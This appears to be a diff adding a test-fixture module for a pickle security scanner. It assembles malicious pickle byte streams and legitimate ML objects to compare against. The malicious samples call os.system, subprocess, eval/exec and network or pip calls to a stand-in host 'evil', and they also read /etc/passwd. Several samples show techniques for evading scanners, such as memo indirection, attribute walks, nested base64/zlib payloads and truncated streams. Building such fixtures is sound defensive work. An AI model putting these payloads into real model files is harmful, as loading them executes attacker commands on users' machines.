@@ -1,0 +1,646 @@
+"""Malicious and legitimate pickle samples, built here from opcodes or real libraries.
+
+Nothing in this module ever loads a sample: malicious ones are hand-assembled bytes or
+`pickle.dumps` of objects whose `__reduce__` names a dangerous callable (dumps never calls it).
+"""
+
+from __future__ import annotations
+
+import base64
+import gzip
+import os
+import pickle
+import struct
+import subprocess
+import zlib
+from collections.abc import Callable, Iterator
+from typing import Any
+
+# ---- scanning through the real engine
+
+
+def scan(data: bytes, **kw: Any) -> tuple[Any, Any]:
+    """(ScanResult, PickleStreamInfo) of `data` scanned by the pickle engine."""
+    from modelaudit.findings import ScanResult
+    from modelaudit.scanners.pickles import scan_pickle_bytes
+
+    result = ScanResult(scanner_name="pickle")
+    info = scan_pickle_bytes(
+        data, result, location=lambda pos: f"sample (pos {pos})", config={}, **kw
+    )
+    return result, info
+
+
+def critical(result: Any) -> list[str]:
+    return [i.message for i in result.issues if i.severity.value == "critical"]
+
+
+def warnings_of(result: Any) -> list[str]:
+    return [i.message for i in result.issues if i.severity.value == "warning"]
+
+
+# ---- opcode helpers
+
+
+class Op(bytes):
+    """Opcode bytes (as opposed to a bytes constant) when passed as a call argument."""
+
+
+def s(text: str) -> Op:
+    """SHORT_BINUNICODE / BINUNICODE of `text`."""
+    raw = text.encode()
+    if len(raw) < 256:
+        return Op(b"\x8c" + bytes([len(raw)]) + raw)
+    return Op(b"X" + struct.pack("<I", len(raw)) + raw)
+
+
+def g0(module: str, name: str) -> Op:
+    """GLOBAL (the protocol-0 form, also used by protocols 1-3)."""
+    return Op(b"c" + module.encode() + b"\n" + name.encode() + b"\n")
+
+
+def sg(module: str, name: str) -> Op:
+    """STACK_GLOBAL fed by two short strings (protocol 4+)."""
+    return Op(s(module) + s(name) + b"\x93")
+
+
+def args(*values: Any) -> bytes:
+    out = b"("
+    for v in values:
+        if isinstance(v, Op):
+            out += v
+        elif isinstance(v, str):
+            out += s(v)
+        elif isinstance(v, int):
+            out += b"J" + struct.pack("<i", v)
+        elif isinstance(v, bytes):
+            out += (
+                b"C" + bytes([len(v)]) + v if len(v) < 256 else b"B" + struct.pack("<I", len(v)) + v
+            )
+        else:
+            raise TypeError(type(v))
+    return out + b"t"
+
+
+def call(func: bytes, *values: Any) -> Op:
+    return Op(func + args(*values) + b"R")
+
+
+def p4(body: bytes) -> bytes:
+    return b"\x80\x04" + body + b"."
+
+
+def p2(body: bytes) -> bytes:
+    return b"\x80\x02" + body + b"."
+
+
+def p0(body: bytes) -> bytes:
+    return body + b"."
+
+
+def frame(body: bytes, declared: int | None = None) -> bytes:
+    n = len(body) if declared is None else declared
+    return b"\x95" + struct.pack("<Q", n) + body
+
+
+# ---- dangerous callables by family: (module, name, example args)
+
+DANGEROUS: dict[str, list[tuple[str, str, tuple[Any, ...]]]] = {
+    "process": [
+        ("os", "system", ("id",)),
+        ("posix", "system", ("id",)),
+        ("nt", "system", ("whoami",)),
+        ("os", "popen", ("id",)),
+        ("os", "execv", ("/bin/sh",)),
+        ("os", "posix_spawn", ("/bin/sh",)),
+        ("subprocess", "Popen", ("id",)),
+        ("subprocess", "call", ("id",)),
+        ("subprocess", "check_output", ("id",)),
+        ("subprocess", "run", ("id",)),
+        ("subprocess", "getoutput", ("id",)),
+        ("_posixsubprocess", "fork_exec", ("x",)),
+        ("pty", "spawn", ("/bin/sh",)),
+        ("multiprocessing.util", "spawnv_passfds", ("/bin/sh",)),
+        ("multiprocessing.popen_spawn_posix", "Popen", ("x",)),
+        ("asyncio.subprocess", "create_subprocess_shell", ("id",)),
+        ("platform", "_syscmd_file", ("/bin/sh",)),
+        ("uuid", "_get_command_stdout", ("id",)),
+        ("imaplib", "IMAP4_stream", ("id",)),
+        ("_osx_support", "_read_output", ("id",)),
+        ("_aix_support", "_read_cmd_output", ("id",)),
+        ("_pyrepl.pager", "pipe_pager", ("x", "id")),
+        ("test.support.script_helper", "assert_python_ok", ("-c", "1")),
+        ("torch.utils.collect_env", "run", ("id",)),
+    ],
+    "code-exec": [
+        ("builtins", "eval", ("1+1",)),
+        ("builtins", "exec", ("import os",)),
+        ("builtins", "compile", ("1", "f", "eval")),
+        ("builtins", "__import__", ("os",)),
+        ("builtins", "breakpoint", ()),
+        ("runpy", "run_path", ("/tmp/x.py",)),
+        ("runpy", "_run_code", ("1", "g")),
+        ("timeit", "timeit", ("import os",)),
+        ("cProfile", "run", ("import os",)),
+        ("profile", "run", ("import os",)),
+        ("trace", "Trace", ()),
+        ("bdb", "Bdb", ()),
+        ("pdb", "run", ("import os",)),
+        ("doctest", "debug_script", ("import os",)),
+        ("pydoc", "pipepager", ("x", "id")),
+        ("code", "InteractiveInterpreter", ()),
+        ("code", "interact", ()),
+        ("idlelib.pyshell", "ModifiedInterpreter", ()),
+        ("lib2to3.pgen2.grammar", "Grammar", ()),
+        ("ensurepip", "bootstrap", ()),
+        ("numpy.f2py.crackfortran", "myeval", ("1",)),
+        ("numpy.testing._private.utils", "runstring", ("import os", "g")),
+        ("torch.jit.unsupported_tensor_ops", "execWrapper", ("import os",)),
+        ("torch.fx.graph_module", "_forward_from_src", ("x", "g")),
+        ("pandas", "eval", ("1",)),
+    ],
+    "resolver": [
+        ("importlib", "import_module", ("os",)),
+        ("pkgutil", "resolve_name", ("os:system",)),
+        ("pydoc", "locate", ("os.system",)),
+        ("inspect", "getattr_static", ("x", "y")),
+        ("operator", "attrgetter", ("system",)),
+        ("operator", "methodcaller", ("system", "id")),
+        ("operator", "itemgetter", ("eval",)),
+        ("_operator", "attrgetter", ("system",)),
+        ("torch._utils", "_import_dotted_name", ("os.system",)),
+        ("builtins", "vars", ()),
+        ("builtins", "globals", ()),
+        ("builtins", "setattr", ("x", "y", "z")),
+        ("copyreg", "add_extension", ("os", "system", 1)),
+    ],
+    "logging-config": [
+        ("logging.config", "dictConfig", ("x",)),
+        ("logging.config", "listen", (9999,)),
+        ("logging", "FileHandler", ("/tmp/x",)),
+        ("logging.handlers", "SocketHandler", ("evil", 1)),
+    ],
+    "typing-eval": [
+        ("typing", "ForwardRef", ("__import__('os').system('id')",)),
+        ("typing", "_eval_type", ("x", "g", "l")),
+        ("typing", "get_type_hints", ("x",)),
+    ],
+    "native": [
+        ("ctypes", "CDLL", ("libc.so.6",)),
+        ("ctypes", "cdll.LoadLibrary", ("libc.so.6",)),
+        ("_ctypes", "dlopen", ("libc.so.6",)),
+        ("ctypes.util", "find_library", ("c",)),
+        ("torch.ops", "load_library", ("/tmp/x.so",)),
+    ],
+    "code-object": [
+        ("marshal", "loads", (b"\xe3",)),
+        ("types", "FunctionType", ("x", "g")),
+        ("types", "CodeType", (1,)),
+        ("cloudpickle.cloudpickle", "_make_function", ("x",)),
+        ("dill._dill", "_create_code", (1,)),
+        ("dill._dill", "_create_function", ("x",)),
+    ],
+    "nested-unpickler": [
+        ("pickle", "loads", (b"cos\nsystem\n.",)),
+        ("_pickle", "loads", (b"x",)),
+        ("dill", "loads", (b"x",)),
+        ("joblib", "load", ("/tmp/x",)),
+        ("torch", "load", ("/tmp/x",)),
+        ("numpy", "load", ("/tmp/x",)),
+        ("pandas", "read_pickle", ("/tmp/x",)),
+        ("pandas.io.pickle", "read_pickle", ("/tmp/x",)),
+        ("shelve", "open", ("/tmp/x",)),
+        ("yaml", "unsafe_load", ("!!python/object/apply:os.system [id]",)),
+    ],
+    "import-system": [
+        ("zipimport", "zipimporter", ("/tmp/x.zip",)),
+        ("site", "addpackage", ("/tmp", "x.pth", "y")),
+        ("sys", "settrace", ("x",)),
+        ("atexit", "register", ("x",)),
+    ],
+    "subinterpreter": [
+        ("_xxsubinterpreters", "run_string", (1, "import os")),
+        ("_interpreters", "exec", (1, "import os")),
+        ("_thread", "start_new_thread", ("x", "y")),
+    ],
+    "torch-gadget": [
+        ("torch.jit", "load", ("/tmp/x",)),
+        ("torch.hub", "load", ("evil/repo", "m")),
+        ("torch.package", "PackageImporter", ("/tmp/x",)),
+        ("torch.utils.cpp_extension", "load_inline", ("x", "y")),
+        ("torch._inductor.codecache", "PyCodeCache", ()),
+        ("torch.serialization", "load", ("/tmp/x",)),
+        ("torch._C", "_load_for_lite_interpreter", ("/tmp/x",)),
+    ],
+    "file": [
+        ("shutil", "rmtree", ("/tmp/x",)),
+        ("shutil", "copyfile", ("/etc/passwd", "/tmp/x")),
+        ("_io", "FileIO", ("/tmp/x", "w")),
+        ("io", "open", ("/tmp/x", "w")),
+        ("builtins", "open", ("/tmp/x", "w")),
+        ("tempfile", "NamedTemporaryFile", ()),
+        ("numpy", "fromfile", ("/etc/passwd",)),
+        ("numpy", "save", ("/tmp/x", 1)),
+        ("pathlib", "Path.write_text", ("x",)),
+    ],
+    "network": [
+        ("socket", "socket", ()),
+        ("socket", "create_connection", ("evil", 80)),
+        ("ssl", "create_default_context", ()),
+        ("urllib.request", "urlopen", ("http://evil/",)),
+        ("http.client", "HTTPConnection", ("evil",)),
+        ("webbrowser", "open", ("http://evil/",)),
+        ("requests", "get", ("http://evil/",)),
+        ("smtplib", "SMTP", ("evil",)),
+        ("ftplib", "FTP", ("evil",)),
+    ],
+    "package-install": [
+        ("pip", "main", ("install", "evil")),
+        ("pip._internal.cli.main", "main", ("install", "evil")),
+        ("setuptools.sandbox", "run_setup", ("setup.py", "x")),
+    ],
+}
+
+
+class _Reduce:
+    """An object whose pickle calls `func(*args)` on load; dumps never calls it."""
+
+    def __init__(self, func: Callable[..., Any], *a: Any) -> None:
+        self.func = func
+        self.a = a
+
+    def __reduce__(self) -> tuple[Any, ...]:
+        return (self.func, self.a)
+
+
+def _family_samples() -> Iterator[tuple[str, bytes]]:
+    for family, entries in DANGEROUS.items():
+        for module, name, a in entries:
+            yield f"{family}:{module}.{name}:p4", p4(call(sg(module, name), *a))
+            yield f"{family}:{module}.{name}:p0", p0(call(g0(module, name), *a))
+
+
+def _reduce_samples() -> Iterator[tuple[str, bytes]]:
+    import builtins
+    import runpy
+    import shutil
+    import socket
+    import timeit
+
+    reducers = [
+        (os.system, ("touch /tmp/x",)),
+        (os.popen, ("id",)),
+        (subprocess.Popen, (["id"],)),
+        (subprocess.check_output, (["id"],)),
+        (builtins.eval, ("1",)),
+        (builtins.exec, ("1",)),
+        (builtins.getattr, (os.system, "__call__")),
+        (runpy.run_path, ("/tmp/x",)),
+        (shutil.rmtree, ("/tmp/x",)),
+        (socket.create_connection, (("evil", 1),)),
+        (timeit.timeit, ("1",)),
+        (pickle.loads, (b"x",)),
+    ]
+    for func, a in reducers:
+        for proto in (0, 2, 4, 5):
+            yield (
+                f"reduce:{func.__module__}.{func.__qualname__}:proto{proto}",
+                pickle.dumps(_Reduce(func, *a), protocol=proto),
+            )
+
+
+def _trick_samples() -> Iterator[tuple[str, bytes]]:
+    osys = sg("os", "system")
+    # memo indirection: the global is stored, popped and fetched back before the call
+    yield "memo:binput-binget", p4(osys + b"q\x07" + b"0" + b"h\x07" + args("id") + b"R")
+    yield (
+        "memo:memoize-long-binget",
+        p4(osys + b"\x94" + b"0" + b"j\x00\x00\x00\x00" + args("id") + b"R"),
+    )
+    yield "memo:put-get-p0", p0(g0("os", "system") + b"p5\n0g5\n(S'id'\ntR")
+    yield (
+        "memo:strings-via-memo",
+        p4(
+            s("os")
+            + b"\x94"
+            + s("system")
+            + b"\x94"
+            + b"0"
+            + b"0"
+            + b"h\x00h\x01\x93"
+            + args("id")
+            + b"R"
+        ),
+    )
+    # STACK_GLOBAL without PROTO, fed by protocol-0 string opcodes
+    yield "stackglobal:no-proto", b"Vos\nVsystem\n\x93(Vid\ntR."
+    yield "stackglobal:string-opcodes", b"S'os'\nS'system'\n\x93(S'id'\ntR."
+    yield (
+        "stackglobal:binunicode",
+        b"X\x02\x00\x00\x00osX\x06\x00\x00\x00system\x93(X\x02\x00\x00\x00idtR.",
+    )
+    # dotted names (protocol >= 4) and dunder suffixes
+    for module, dotted in [
+        ("mimetypes", "os.system"),
+        ("torch", "serialization.pickle.loads"),
+        ("numpy", "testing._private.utils.runstring"),
+        ("sklearn.utils", "np.load"),
+        ("collections", "abc.sys.modules"),
+        ("builtins", "exec.__call__"),
+        ("builtins", "eval.__call__"),
+        ("posix", "system.__call__"),
+        ("numpy", "__builtins__"),
+        ("collections", "OrderedDict.__init__.__globals__"),
+        ("builtins", "object.__subclasses__"),
+        ("torch._utils", "_rebuild_tensor.__globals__"),
+    ]:
+        yield f"dotted:{module}:{dotted}", p4(call(sg(module, dotted), "x"))
+    # attribute walks that start at an allowed module
+    np_builtins = call(sg("builtins", "getattr"), sg("numpy", "core"), "__builtins__")
+    yield "walk:getattr-numpy-builtins", p4(np_builtins)
+    yield (
+        "walk:dict.get-numpy.__builtins__",
+        p4(
+            call(call(sg("builtins", "dict.get"), sg("numpy", "__builtins__"), "exec"), "import os")
+        ),
+    )
+    yield (
+        "walk:getattr-getattr",
+        p4(
+            call(
+                call(
+                    sg("builtins", "getattr"),
+                    call(sg("builtins", "getattr"), sg("torch", "serialization"), "os"),
+                    "system",
+                ),
+                "id",
+            )
+        ),
+    )
+    yield (
+        "walk:getattr-alias-pickle",
+        p4(call(call(sg("builtins", "getattr"), sg("torch", "serialization"), "pickle"), "x")),
+    )
+    yield (
+        "walk:getattr-write_text",
+        p4(
+            call(
+                call(
+                    sg("builtins", "getattr"),
+                    call(sg("pathlib", "PosixPath"), "/tmp/x"),
+                    "write_text",
+                ),
+                "pwned",
+            )
+        ),
+    )
+    yield (
+        "walk:ufunc-reconstruct",
+        p4(call(call(sg("numpy._core", "_ufunc_reconstruct"), "os", "system"), "id")),
+    )
+    yield (
+        "walk:ufunc-reconstruct-np1",
+        p2(call(call(g0("numpy.core", "_ufunc_reconstruct"), "posix", "system"), "id")),
+    )
+    yield (
+        "walk:partial-getattr",
+        p4(
+            call(
+                call(sg("functools", "partial"), sg("builtins", "getattr"), sg("numpy", "core")),
+                "__builtins__",
+            )
+        ),
+    )
+    yield (
+        "walk:partial-os-system",
+        p4(call(call(sg("functools", "partial"), sg("os", "system"), "id"))),
+    )
+    yield (
+        "walk:reduce-getattr",
+        p4(
+            call(
+                sg("functools", "reduce"),
+                sg("builtins", "getattr"),
+                Op(b"(" + s("__builtins__") + s("exec") + b"l"),
+                sg("numpy", "core"),
+            )
+        ),
+    )
+    yield (
+        "walk:getattr-computed-name",
+        p4(call(sg("builtins", "getattr"), sg("numpy", "core"), Op(b"J\x01\x00\x00\x00"))),
+    )
+    yield (
+        "walk:dill-get-attr",
+        p4(call(call(sg("dill._dill", "_get_attr"), sg("torch", "serialization"), "os"), "x")),
+    )
+    yield "walk:dill-load-type-code", p4(call(sg("dill._dill", "_load_type"), "CodeType"))
+    # Python 2 names renamed by _compat_pickle at load time (protocol < 3)
+    for module, name in [
+        ("__builtin__", "eval"),
+        ("__builtin__", "exec"),
+        ("__builtin__", "execfile"),
+        ("cPickle", "loads"),
+        ("urllib", "urlopen"),
+        ("urllib2", "urlopen"),
+        ("thread", "start_new_thread"),
+        ("commands", "getoutput"),
+        ("copy_reg", "add_extension"),
+        ("exceptions", "eval"),
+    ]:
+        yield f"py2:{module}.{name}", p2(call(g0(module, name), "x", "y"))
+    # EXT1/EXT2/EXT4 resolve through copyreg's registry
+    yield "ext:ext1", p2(b"\x82\x01" + args("id") + b"R")
+    yield "ext:ext2", p2(b"\x83\x01\x01" + args("id") + b"R")
+    yield "ext:ext4", p2(b"\x84\x01\x01\x01\x00" + args("id") + b"R")
+    yield (
+        "ext:registered-then-used",
+        p2(
+            call(g0("copyreg", "add_extension"), "os", "system", 200)
+            + b"0\x82\xc8"
+            + args("id")
+            + b"R"
+        ),
+    )
+    # every call opcode
+    yield "op:inst", b"(S'id'\nios\nsystem\n."
+    yield "op:obj", b"(cos\nsystem\nS'id'\no."
+    yield "op:newobj", p2(g0("subprocess", "Popen") + args("id") + b"\x81")
+    yield "op:newobj_ex", p4(sg("subprocess", "Popen") + args("id") + b"}\x92")
+    yield (
+        "op:build-on-global",
+        p2(g0("collections", "OrderedDict") + b"N}" + s("fromkeys") + s("x") + b"s\x86b"),
+    )
+    yield (
+        "op:setitem-on-global",
+        p2(g0("torch._utils", "_rebuild_tensor_v2") + s("k") + s("v") + b"s"),
+    )
+    yield "op:append-on-global", p2(g0("collections", "OrderedDict") + s("v") + b"a")
+    yield "op:build-setstate", p2(g0("subprocess", "Popen") + b")\x81" + b"}b")
+    # frames as the C unpickler reads them
+    body = call(sg("os", "system"), "id")
+    yield "frame:whole", b"\x80\x04" + frame(body + b".")
+    yield "frame:declared-short", b"\x80\x04" + frame(body + b".", declared=3)
+    yield "frame:nested-frames", b"\x80\x04" + frame(frame(body) + b".")
+    yield (
+        "frame:straddle-binbytes",
+        b"\x80\x04" + frame(b"B\x05\x00\x00\x00", declared=9) + b"ABCDE0" + body + b".",
+    )
+    yield "frame:after-benign-frame", b"\x80\x04" + frame(b"}\x94" + b"0") + frame(body + b".")
+
+
+def _nested_samples() -> Iterator[tuple[str, bytes]]:
+    evil = pickle.dumps(_Reduce(os.system, "id"), protocol=4)
+    evil0 = pickle.dumps(_Reduce(os.system, "id"), protocol=0)
+
+    def holder(value: bytes | str) -> bytes:
+        return pickle.dumps({"config": value, "weights": [1.0, 2.0]}, protocol=4)
+
+    yield "nested:raw-bytes", holder(evil)
+    yield "nested:raw-proto0-bytes", holder(evil0)
+    yield "nested:base64-bytes", holder(base64.b64encode(evil))
+    yield "nested:base64-str", holder(base64.b64encode(evil).decode())
+    yield "nested:base64-proto0", holder(base64.b64encode(evil0).decode())
+    yield "nested:urlsafe-base64", holder(base64.urlsafe_b64encode(evil).decode())
+    yield "nested:hex", holder(evil.hex())
+    yield "nested:zlib", holder(zlib.compress(evil))
+    yield "nested:gzip", holder(gzip.compress(evil))
+    yield "nested:zlib-base64", holder(zlib.compress(base64.b64encode(evil)))
+    yield "nested:base64-zlib", holder(base64.b64encode(zlib.compress(evil)).decode())
+    yield "nested:load-from-bytes", p4(call(sg("torch.storage", "_load_from_bytes"), evil))
+    yield "nested:protocol2-bytes", pickle.dumps({"blob": evil}, protocol=2)
+
+
+def malicious() -> list[tuple[str, bytes]]:
+    return [*_family_samples(), *_reduce_samples(), *_trick_samples(), *_nested_samples()]
+
+
+def truncated() -> list[tuple[str, bytes]]:
+    """Streams that break after their payload: a loader still runs what came first."""
+    body = call(sg("os", "system"), "id")
+    return [
+        ("trunc:no-stop", b"\x80\x04" + body),
+        ("trunc:cut-mid-opcode", b"\x80\x04" + body + s("abcdef")[:4]),
+        ("trunc:bad-opcode-after", b"\x80\x04" + body + b"\xff."),
+        ("trunc:missing-memo", b"\x80\x04" + body + b"h\x63."),
+        ("trunc:bad-type-after", b"\x80\x04" + body + b"K\x01K\x02K\x03s."),
+        ("trunc:stack-underflow", b"\x80\x04" + body + b"0000R."),
+        ("trunc:frame-too-long", b"\x80\x04" + body + b"\x95\xff\x00\x00\x00\x00\x00\x00\x00N."),
+        ("trunc:proto0-eof", g0("os", "system") + b"(S'id'\ntR"),
+    ]
+
+
+def stacked(position: int, total: int = 5) -> bytes:
+    """`total` pickles back to back, the payload in pickle number `position`."""
+    parts = []
+    for i in range(total):
+        if i == position:
+            parts.append(pickle.dumps(_Reduce(os.system, "id"), protocol=2))
+        else:
+            parts.append(pickle.dumps({"part": i, "values": list(range(i))}, protocol=2))
+    return b"".join(parts)
+
+
+# ---- legitimate objects made with the real libraries
+
+
+def legitimate() -> list[tuple[str, Any]]:
+    import collections
+    import datetime
+    import decimal
+    import fractions
+    import functools
+    import pathlib
+    import uuid
+
+    import numpy as np
+    import pandas as pd
+    import scipy.sparse as sps
+    import torch
+    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
+    from sklearn.feature_extraction.text import TfidfVectorizer
+    from sklearn.linear_model import LogisticRegression
+    from sklearn.pipeline import Pipeline
+    from sklearn.preprocessing import FunctionTransformer, OneHotEncoder, StandardScaler
+    from sklearn.svm import SVC
+    from sklearn.tree import DecisionTreeClassifier
+
+    rng = np.random.default_rng(0)
+    x = rng.random((30, 3))
+    y = (x[:, 0] > 0.5).astype(int)
+    module = torch.nn.Sequential(torch.nn.Linear(3, 4), torch.nn.ReLU(), torch.nn.Linear(4, 1))
+    return [
+        ("numpy-float-array", np.arange(12.0).reshape(3, 4)),
+        ("numpy-object-array", np.array([1, "a", None, {"k": 2}], dtype=object)),
+        ("numpy-structured", np.zeros(3, dtype=[("a", "i4"), ("b", "f8")])),
+        ("numpy-datetime", np.array(["2020-01-01"], dtype="datetime64[D]")),
+        ("numpy-scalars", [np.float32(1.5), np.int64(3), np.bool_(True)]),
+        ("numpy-generator", np.random.default_rng(1)),
+        ("numpy-randomstate", np.random.RandomState(2)),
+        ("numpy-ufunc", [np.add, np.log1p]),
+        (
+            "pandas-dataframe",
+            pd.DataFrame({"a": [1, 2], "b": ["x", "y"], "t": pd.to_datetime(["2020", "2021"])}),
+        ),
+        ("pandas-series", pd.Series([1.0, 2.0], index=["p", "q"])),
+        ("pandas-index", pd.Index(["a", "b"])),
+        ("pandas-multiindex", pd.MultiIndex.from_tuples([(1, "a"), (2, "b")])),
+        ("pandas-categorical", pd.Categorical(["a", "b", "a"])),
+        ("sklearn-random-forest", RandomForestClassifier(n_estimators=3, random_state=0).fit(x, y)),
+        ("sklearn-gradient-boosting", GradientBoostingClassifier(n_estimators=3).fit(x, y)),
+        (
+            "sklearn-pipeline",
+            Pipeline([("s", StandardScaler()), ("lr", LogisticRegression())]).fit(x, y),
+        ),
+        ("sklearn-svc", SVC().fit(x, y)),
+        ("sklearn-tree", DecisionTreeClassifier().fit(x, y)),
+        ("sklearn-tfidf", TfidfVectorizer().fit(["alpha beta gamma", "beta gamma delta"])),
+        ("sklearn-onehot", OneHotEncoder().fit([["a"], ["b"]])),
+        ("sklearn-function-transformer", FunctionTransformer(np.log1p).fit(x)),
+        ("scipy-csr", sps.csr_matrix(np.eye(3))),
+        ("scipy-coo", sps.coo_matrix(np.eye(3))),
+        ("scipy-csc-array", sps.csc_array(np.eye(3))),
+        ("ordereddict", collections.OrderedDict(a=1, b=[1, 2])),
+        (
+            "collections",
+            [
+                collections.defaultdict(list, a=[1]),
+                collections.deque([1, 2]),
+                collections.Counter("aab"),
+            ],
+        ),
+        (
+            "datetime",
+            [
+                datetime.datetime(2024, 1, 2, tzinfo=datetime.UTC),
+                datetime.date(2020, 1, 1),
+                datetime.timedelta(3),
+            ],
+        ),
+        (
+            "stdlib-values",
+            [
+                decimal.Decimal("1.1"),
+                fractions.Fraction(1, 3),
+                uuid.UUID(int=5),
+                pathlib.PurePosixPath("/a"),
+                {1, 2},
+                frozenset([3]),
+                b"raw",
+                bytearray(b"x"),
+                1 + 2j,
+            ],
+        ),
+        ("functools-partial", functools.partial(max, 1)),
+        ("pathlib-path", pathlib.PosixPath("/tmp/model")),
+        ("torch-tensor", torch.arange(6.0).reshape(2, 3)),
+        ("torch-parameter", torch.nn.Parameter(torch.ones(2))),
+        ("torch-state-dict", module.state_dict()),
+        ("torch-module", module),
+        ("torch-optimizer-state", torch.optim.Adam(module.parameters()).state_dict()),
+        (
+            "torch-dtypes-devices",
+            [torch.float16, torch.bfloat16, torch.device("cpu"), torch.Size([2, 3])],
+        ),
+        ("torch-rng-state", torch.get_rng_state()),
+    ]
